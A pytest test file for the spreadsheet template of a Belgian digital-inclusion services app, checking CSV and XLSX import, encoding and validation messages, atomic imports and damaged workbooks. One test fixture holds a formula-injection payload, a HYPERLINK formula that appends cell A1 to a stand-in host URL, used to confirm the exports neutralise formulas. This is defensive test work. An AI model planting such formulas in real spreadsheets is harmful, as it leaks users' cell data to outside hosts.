"""The municipalities' spreadsheet template: CSV and XLSX, one row per offer, every problem with
its row and column, all or nothing."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from einclusie_app.core import spreadsheet as sp
from einclusie_app.core.localstore import LocalStore
from einclusie_app.core.overlay import Workspace
from einclusie_app.core.record import RecordError, load_record, load_records
from einclusie_app.core.validate import check_read

ROOT = Path(__file__).resolve().parents[1]
EXAMPLES = ROOT / "docs" / "examples"
HEADER = "naam,soort,postcode,gemeente,telefoon,uren,bron_url"


@pytest.fixture
def ws(tmp_path, catalogue_file):
    store = LocalStore(tmp_path / "store", counter="Balie 3")
    w = Workspace(catalogue_file, store, tmp_path / "cache")
    yield w
    w.close()
    store.close()


def write(tmp_path, text: str, name="aanbod.csv", encoding="utf-8") -> Path:
    path = tmp_path / name
    path.write_bytes(text.encode(encoding))
    return path


def problems(path: Path, gazetteer=None) -> list[str]:
    return [str(p) for p in check_read(sp.read_spreadsheet(path), gazetteer)]


@pytest.mark.parametrize("name", ["aanbod-voorbeeld.csv", "aanbod-voorbeeld.xlsx"])
def test_the_example_files_are_two_real_records_copied_faithfully(name, catalogue):
    read = sp.read_spreadsheet(EXAMPLES / name)
    assert check_read(read, catalogue.gazetteer) == []
    expected = [load_record(ROOT / "data" / "services" / f"{i}.toml")
                for i in ("beernem-covias-digipunt", "bnppf-easy-banking-phone")]
    assert read.records == expected


def test_the_example_files_are_what_the_writer_makes(tmp_path):
    records = sp.read_spreadsheet(EXAMPLES / "aanbod-voorbeeld.csv").records
    sp.write_csv(records, tmp_path / "again.csv")
    assert (tmp_path / "again.csv").read_bytes() == (EXAMPLES / "aanbod-voorbeeld.csv").read_bytes()


def test_every_record_that_fits_one_row_survives_both_forms(tmp_path):
    fits = []
    for r in load_records(ROOT / "data" / "services"):
        try:
            sp.row_of(r)
        except sp.SpreadsheetError:
            continue
        fits.append(r)
    assert len(fits) > 60
    sp.write_csv(fits, tmp_path / "all.csv")
    sp.write_xlsx(fits, tmp_path / "all.xlsx")
    for name in ("all.csv", "all.xlsx"):
        read = sp.read_spreadsheet(tmp_path / name)
        assert read.problems == [] and read.records == fits


def test_a_record_with_two_locations_does_not_fit_and_says_so():
    r = next(r for r in load_records(ROOT / "data" / "services") if len(r.locations) > 1)
    with pytest.raises(sp.SpreadsheetError, match="locations; the template holds one"):
        sp.row_of(r)


def test_semicolons_a_bom_and_dutch_words_are_read(tmp_path, catalogue):
    path = write(tmp_path, "\ufeffnaam;soort;toegang;meebrengen;postcode;gemeente;telefoon;"
                           "telefoon_omschrijving;uren;uitzonderingen;open_op_feestdagen;bron_url\n"
                           'Digicafé Test;digipunt, cursus;"binnenlopen; afspraak";identiteitskaart;'
                           '8730;Beernem;"050 12 34 56; 1700";onthaal;"ma 09:00-12:00; woensdag '
                           '14:00-16:00";"2026-12-24 gesloten (kerstavond); 2026-12-31 '
                           '9:00-12:00";nee;https://www.beernem.be\n')
    read = sp.read_spreadsheet(path)
    assert check_read(read, catalogue.gazetteer) == []
    [r] = read.records
    assert r.id == "digicafe-test-8730" and r.kinds == ["digipunt", "training"]
    assert r.access == ["walk_in", "appointment"] and r.to_bring == ["eid"]
    assert [(p.number, p.description) for p in r.phones] == [("050 12 34 56", "onthaal"),
                                                             ("1700", "")]
    assert r.hours == "Mo 09:00-12:00; We 14:00-16:00"
    assert [(e.date, e.opens, e.closes, e.description) for e in r.hours_exceptions] == [
        ("2026-12-24", "", "", "kerstavond"), ("2026-12-31", "09:00", "12:00", "")]
    assert r.open_on_holidays is False and r.sources[0].confidence == "high"


def test_a_file_in_another_encoding_is_refused_with_a_clear_message(tmp_path):
    path = write(tmp_path, f"{HEADER}\nDigicafé,digipunt,8730,Beernem,,,https://x.be\n",
                 encoding="cp1252")
    assert problems(path) == ["aanbod.csv: row 2: is not UTF-8 (byte 0xe9 cannot be read): "
                              "save it as 'CSV UTF-8 (comma delimited)'"]
    path = write(tmp_path, f"{HEADER}\n", encoding="utf-16")
    assert "is not UTF-8 (it is UTF-16)" in problems(path)[0]


def test_every_problem_names_its_row_and_column(tmp_path, catalogue):
    path = write(tmp_path, HEADER + ",breedtegraad,lengtegraad,e-mail,talen\n"
                 "Digipunt A,digipunt,8730,Beernem,050 12 34 56,ma 09:00-12:00,https://a.be,,,,\n"
                 "Digipunt B,digipunt,9999,,12345,mn 09:00-12:00,https://b.be,100,3,b@,nl\n"
                 ",hulplijn,,,,,https://c.be,,,,\n"
                 "Digipunt D,digipunt,8730,Torhout,,,,51.1,3.3,,nederlands\n")
    found = problems(path, catalogue.gazetteer)
    assert found == [
        "aanbod.csv row 3: uren: unknown day 'mn' in 'mn 09:00-12:00' (use ma di wo do vr za "
        "zo, like 'ma 09:00-12:00; wo 14:00-16:00')",
        "aanbod.csv row 3: breedtegraad: latitude 100 does not exist (it lies between -90 and "
        "90)",
        "aanbod.csv row 3: telefoon: '12345' cannot be a Belgian number (wrong length or prefix)",
        "aanbod.csv row 3: e-mail: 'b@' is not an e-mail address (like naam@gemeente.be)",
        "aanbod.csv row 3: postcode: postcode 9999 does not exist (close: 9992 Maldegem, 9991 "
        "Maldegem, 9990 Maldegem)",
        "aanbod.csv row 4: naam: is required: it cannot be empty",
        "aanbod.csv row 5: bron_url: is required: it cannot be empty",
        "aanbod.csv row 5: talen: 'nederlands' is not an ISO 639 language code",
        "aanbod.csv row 5: postcode: postcode 8730 is Beernem, not Torhout",
    ]


def test_unknown_and_missing_columns(tmp_path):
    path = write(tmp_path, "naam,soort,adres\nA,digipunt,Kerkstraat 1\n")
    found = problems(path)
    assert "aanbod.csv row 1: adres: unknown column" in found[0]
    assert found[1] == "aanbod.csv row 1: bron_url: this column is missing"
    assert len(found) == 2                              # rows are not checked without columns


def test_unknown_words_say_which_words_are_known(tmp_path):
    path = write(tmp_path, f"{HEADER},toegang\nA,bibliotheek,8730,Beernem,,,https://a.be,"
                           "teleportatie\n")
    found = problems(path)
    assert "soort: 'bibliotheek' is not known (use: digipunt, uitleen, hulplijn, cursus)" in found[0]
    assert "toegang: 'teleportatie' is not known" in found[1] and len(found) == 2


def test_a_number_cell_for_a_phone_is_refused_in_xlsx(tmp_path):
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(HEADER.split(","))
    ws.append(["Digipunt A", "digipunt", 8730, "Beernem", 50123456, "ma 09:00-12:00",
               "https://a.be"])
    wb.save(tmp_path / "aanbod.xlsx")
    found = problems(tmp_path / "aanbod.xlsx")
    assert found == ["aanbod.xlsx (Sheet) row 2: telefoon: 50123456 is a number, not text: the "
                     "leading 0 is lost; format the column as text and type the number again"]


def test_two_rows_with_the_same_id_are_reported(tmp_path):
    path = write(tmp_path, f"{HEADER}\nDigipunt A,digipunt,8730,Beernem,,,https://a.be\n"
                           f"Digipunt A,digipunt,8730,Beernem,,,https://a.be\n")
    assert problems(path) == ["aanbod.csv row 3: id: 'digipunt-a-8730' is also used by "
                              "aanbod.csv row 2"]


def test_a_bad_last_row_leaves_the_store_exactly_as_before(ws, tmp_path):
    lines = [HEADER] + [f"Digipunt {i},digipunt,8730,Beernem,050 12 34 {i:02d},ma 09:00-12:00,"
                        "https://www.beernem.be" for i in range(10, 60)]
    write(tmp_path, "\n".join(lines[:5]) + "\n", name="first.csv")
    ws.import_records(sp.read_spreadsheet(tmp_path / "first.csv"))
    before_rows, before_bytes = ws.store.dump(), ws.store.path.read_bytes()
    lines.append("Digipunt laatste,digipunt,8730,Beernem,050 12 34 99,ma 09:00-12:00;"
                 "zz 10:00-11:00,https://www.beernem.be")
    path = write(tmp_path, "\n".join(lines) + "\n")
    with pytest.raises(RecordError) as exc:
        ws.import_records(sp.read_spreadsheet(path))
    assert [p.where for p in exc.value.problems] == ["aanbod.csv row 52"]
    assert ws.store.dump() == before_rows and ws.store.path.read_bytes() == before_bytes


def test_reimport_is_a_no_op_and_a_changed_row_updates_the_same_record(ws, tmp_path):
    text = (f"{HEADER}\nDigipunt A,digipunt,8730,Beernem,050 12 34 56,ma 09:00-12:00,"
            "https://a.be\nDigipunt B,cursus,8730,Beernem,,,https://b.be\n")
    path = write(tmp_path, text)
    assert ws.import_records(sp.read_spreadsheet(path)).added == ["digipunt-a-8730",
                                                                  "digipunt-b-8730"]
    log = ws.store.changes()
    assert ws.import_records(sp.read_spreadsheet(path)).changes == []
    assert ws.store.changes() == log
    write(tmp_path, text.replace("ma 09:00-12:00", "ma 09:00-12:30"))
    report = ws.import_records(sp.read_spreadsheet(path))
    assert report.updated == ["digipunt-a-8730"] and ws.store.count() == 2
    assert ws.record("digipunt-a-8730").hours == "Mo 09:00-12:30"


def test_a_row_can_correct_a_shipped_record_by_its_id(ws, tmp_path):
    read = sp.read_spreadsheet(EXAMPLES / "aanbod-voorbeeld.csv")
    assert ws.import_records(read).unchanged == ["beernem-covias-digipunt", "bnppf-easy-banking-phone"]
    changed = replace(read.records[1], alert="Nummer nagekeken op 1 maart")
    sp.write_csv([read.records[0], changed], tmp_path / "fix.csv")
    report = ws.import_records(sp.read_spreadsheet(tmp_path / "fix.csv"))
    assert report.updated == ["bnppf-easy-banking-phone"]
    assert ws.state("bnppf-easy-banking-phone") == "corrected"


CELLS = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=20)


@settings(max_examples=150, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.dictionaries(st.sampled_from(sp.HEADERS), CELLS, min_size=1, max_size=12))
def test_any_cell_text_is_a_problem_never_a_crash(tmp_path, catalogue, cells):
    import csv
    import io

    buf = io.StringIO()
    w = csv.writer(buf)
    headers = sorted(set(cells) | set(sp.REQUIRED))
    w.writerow(headers)
    w.writerow([cells.get(h, "x") for h in headers])
    path = tmp_path / "fuzz.csv"
    path.write_text(buf.getvalue(), encoding="utf-8")
    for p in check_read(sp.read_spreadsheet(path), catalogue.gazetteer):
        assert p.where.startswith("fuzz.csv") and p.reason


# -- issue 15: cut-off files, formulas, damaged workbooks, may_have_ended ----------------------


def test_a_cut_off_last_row_is_never_imported(tmp_path):
    good = write(tmp_path, f"{HEADER}\nDigipunt A,digipunt,8730,Beernem,050 12 34 56,"
                           "ma 09:00-12:00,https://www.beernem.be\n")
    raw = good.read_bytes()
    cut = write(tmp_path, raw[: raw.index(b"050 12") + 3].decode(), name="cut.csv")
    found = problems(cut)
    assert found == ["cut.csv row 2: is cut off: it has 5 of the 7 cells and the file ends in "
                     "it (save the file again)"]
    assert sp.read_spreadsheet(cut).records == []
    quoted = write(tmp_path, f'{HEADER}\n"Digipunt A,digipunt', name="quote.csv")
    assert problems(quoted) == ["quote.csv: row 2: the file ends inside a quoted cell: it was "
                                "cut off; save it again"]


EVIL = '=HYPERLINK("http://x.invalid/?"&A1,"Klik hier")'


def evil_record():
    r = load_record(ROOT / "data" / "services" / "beernem-covias-digipunt.toml")
    return replace(r, name=EVIL, description="+32 is het landnummer", alert="@balie",
                   audience="'tussen quotes'", hours_text="-1 uur", may_have_ended=True)


def test_the_csv_template_never_holds_a_live_formula_and_reads_back_the_same(tmp_path):
    r = evil_record()
    sp.write_csv([r], tmp_path / "out.csv")
    text = (tmp_path / "out.csv").read_text(encoding="utf-8-sig")
    import csv as _csv

    for row in _csv.reader(text.splitlines()):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert "'=HYPERLINK(" in text and "mogelijk_gestopt" in text.splitlines()[0]
    [back] = sp.read_spreadsheet(tmp_path / "out.csv").records
    assert back == r


def test_the_xlsx_template_holds_text_cells_never_formulas(tmp_path):
    r = evil_record()
    sp.write_xlsx([r], tmp_path / "out.xlsx")
    wb = openpyxl.load_workbook(tmp_path / "out.xlsx")
    ws = wb["aanbod"]
    header = [c.value for c in ws[1]]
    name = ws.cell(2, header.index("naam") + 1)
    assert name.value == EVIL and name.data_type == "s" and name.quotePrefix
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    wb.close()
    [back] = sp.read_spreadsheet(tmp_path / "out.xlsx").records
    assert back == r


def _workbook_with(tmp_path, cells: dict, name="f.xlsx") -> Path:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "aanbod"
    for col, header in enumerate(["naam", "soort", "postcode", "gemeente", "bron_url"], 1):
        ws.cell(1, col, header)
    values = {"naam": "Digipunt Formule", "soort": "digipunt", "postcode": "8730",
              "gemeente": "Beernem", "bron_url": "https://www.beernem.be", **cells}
    for col, header in enumerate(["naam", "soort", "postcode", "gemeente", "bron_url"], 1):
        ws.cell(2, col, values[header])
    path = tmp_path / name
    wb.save(path)
    return path


def test_a_formula_from_another_workbook_is_refused_not_read_as_text(tmp_path):
    path = _workbook_with(tmp_path, {"naam": "='[1]Adressen'!A2"})
    assert problems(path) == [
        "f.xlsx (aanbod) row 2: naam: is a formula that takes its value from another workbook "
        "(='[1]Adressen'!A2); type or paste the value itself"]
    path = _workbook_with(tmp_path, {"gemeente": '=UPPER("beernem")'}, name="g.xlsx")
    assert problems(path) == [
        "g.xlsx (aanbod) row 2: gemeente: is a formula without a computed value "
        "(=UPPER(\"beernem\")); paste the values instead"]


@pytest.mark.parametrize("damage", ["truncated", "garbage", "no_sheet_xml", "not_zip"])
def test_a_damaged_workbook_is_one_clear_message(tmp_path, damage):
    import zipfile

    good = _workbook_with(tmp_path, {})
    raw = good.read_bytes()
    bad = tmp_path / "bad.xlsx"
    if damage == "truncated":
        bad.write_bytes(raw[: len(raw) // 2])
    elif damage == "garbage":
        with zipfile.ZipFile(good) as zin, zipfile.ZipFile(bad, "w") as zout:
            for n in zin.namelist():
                zout.writestr(n, zin.read(n) if "sheet1" not in n else b"<not xml")
    elif damage == "no_sheet_xml":
        with zipfile.ZipFile(good) as zin, zipfile.ZipFile(bad, "w") as zout:
            for n in zin.namelist():
                if "worksheets/" not in n:
                    zout.writestr(n, zin.read(n))
    else:
        bad.write_bytes(b"PK\x03\x04 not really a zip")
    [p] = problems(bad)
    assert p.startswith("bad.xlsx: ") and ("Excel workbook" in p or "sheet" in p), p


def test_a_workbook_without_a_worksheet_says_so(tmp_path):
    import zipfile

    good = _workbook_with(tmp_path, {})
    bad = tmp_path / "empty.xlsx"
    with zipfile.ZipFile(good) as zin, zipfile.ZipFile(bad, "w") as zout:
        for n in zin.namelist():
            data = zin.read(n)
            if n == "xl/workbook.xml":
                import re as _re

                data = _re.sub(rb"<sheets>.*</sheets>", b"<sheets/>", data)
            zout.writestr(n, data)
    [p] = problems(bad)
    assert p.startswith("empty.xlsx: ") and "sheet" in p


def test_may_have_ended_is_a_column(tmp_path):
    path = write(tmp_path, "naam,soort,postcode,gemeente,bron_url,mogelijk_gestopt\n"
                           "A,digipunt,8730,Beernem,https://a.be,ja\n"
                           "B,digipunt,8730,Beernem,https://b.be,\n"
                           "C,digipunt,8730,Beernem,https://c.be,misschien\n")
    read = sp.read_spreadsheet(path)
    assert [r.may_have_ended for r in read.records[:2]] == [True, False]
    assert [str(p) for p in read.problems] == [
        "aanbod.csv row 4: mogelijk_gestopt: 'misschien': write ja, or leave it empty"]


def test_a_name_with_an_rtl_override_or_a_control_character_is_refused(tmp_path):
    path = write(tmp_path, f"{HEADER}\nDigipunt \u202e0 50 21 05,digipunt,8730,Beernem,,,"
                           "https://a.be\nDigi\x01punt,digipunt,8730,Beernem,,,https://b.be\n")
    found = problems(path)
    assert any(f.startswith("aanbod.csv row 2: naam: contains an invisible right-to-left")
               for f in found), found
    assert any(f.startswith("aanbod.csv row 3: naam: contains a control character")
               for f in found), found
